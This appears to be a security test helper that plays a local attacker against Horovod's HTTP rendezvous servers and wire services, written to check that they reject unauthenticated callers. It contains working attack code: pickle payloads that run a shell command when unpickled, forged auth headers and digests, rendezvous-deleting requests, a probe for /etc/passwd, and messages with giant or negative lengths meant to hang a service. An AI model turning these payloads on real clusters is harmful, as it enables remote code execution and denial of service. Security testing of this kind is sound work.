"""An attacker on the same machine as a job (or on another namespace host): it finds the
job's sockets from /proc, as anyone on the machine can, and speaks to them with what a job's
own processes would send, minus the job's key. Run as a program (`python -m tests.intruder
MARKER PORT...`, e.g. inside another network namespace) or called from a test."""

from __future__ import annotations

import base64
import contextlib
import http.client
import os
import pickle
import socket
import struct
import sys
from collections.abc import Iterable
from pathlib import Path

import psutil

# What Horovod's HTTP servers hold: horovod.run's function and results (cloudpickled), Gloo's
# rendezvous (each rank's address, per scope), elastic's worker addresses and rank assignments.
PATHS = [
    "/runfunc/func", "/runfunc_result/0", "/runfunc_result/1", "/global/rank_0",
    "/global/0", "/global/1", "/local_localhost/0", "/worker_addresses/localhost:0",
    "/rank_and_size/localhost:0",
]  # fmt: skip


class Touch:
    """Unpickled, it runs `touch MARKER`: proof that code from the network ran."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple:
        return os.system, (f"touch {self.marker}",)


def evil_payloads(marker: Path) -> list[bytes]:
    """Bodies that run code wherever they are unpickled: raw, and base64 as Horovod's KVStore
    holds its values."""
    raw = pickle.dumps(Touch(marker))
    return [raw, base64.b64encode(raw)]


def tree(pid: int) -> list[psutil.Process]:
    """A process and all its descendants."""
    try:
        root = psutil.Process(pid)
        return [root, *root.children(recursive=True)]
    except psutil.NoSuchProcess:
        return []


def sockets(processes: Iterable[psutil.Process]) -> list[tuple[str, str, int]]:
    """(tcp or udp, address, port) of every listening TCP socket and every bound UDP socket."""
    found = set()
    for process in processes:
        try:
            connections = process.net_connections(kind="inet4")
        except psutil.Error:
            continue
        for c in connections:
            if c.type == 1 and c.status == psutil.CONN_LISTEN:
                found.add(("tcp", c.laddr.ip, c.laddr.port))
            elif c.type == 2 and c.laddr:
                found.add(("udp", c.laddr.ip, c.laddr.port))
    return sorted(found)


def attack_http(host: str, port: int, marker: Path) -> list[int]:
    """Every request a stranger can make of a Horovod HTTP server: GETs of what it holds,
    PUTs of pickles that run code, DELETEs that end a rendezvous scope, a HEAD of a file. The
    statuses it answered (0: the connection failed: not an HTTP server, or closed)."""
    statuses = []
    requests = [("GET", path, b"") for path in PATHS]
    requests += [("PUT", p, body) for p in PATHS for body in evil_payloads(marker)]
    requests += [("DELETE", path, b"") for path in PATHS]
    requests += [("HEAD", "/etc/passwd", b""), ("HEAD", "/", b"")]
    for method, path, body in requests:
        try:
            connection = http.client.HTTPConnection(host, port, timeout=3)
            connection.request(
                method,
                path,
                body=body or None,
                headers={"X-Horovod-Auth": "0.1." + "0" * 64 + "." + "0" * 64},
            )
            statuses.append(connection.getresponse().status)
            connection.close()
        except (OSError, http.client.HTTPException):
            statuses.append(0)
    return statuses


if __name__ == "__main__":
    marker_path, *ports = sys.argv[1:]
    for target in ports:
        address, _, number = target.rpartition(":")
        print(target, *attack_http(address, int(number), Path(marker_path)))


def attack_wire(host: str, port: int) -> None:
    """Messages shaped like those of Horovod's driver, task and worker-notification services
    (a digest, a length, a cloudpickled body) with a forged digest, and lengths that made a
    service read for ever (2 GB, or a negative one: to the end of the stream)."""
    for length in (-1, 0x7FFFFFFF, 16):
        with (
            contextlib.suppress(OSError),
            socket.create_connection((host, port), timeout=3) as connection,
        ):
            connection.sendall(bytes(32) + struct.pack("i", length) + bytes(16))
            connection.recv(1)
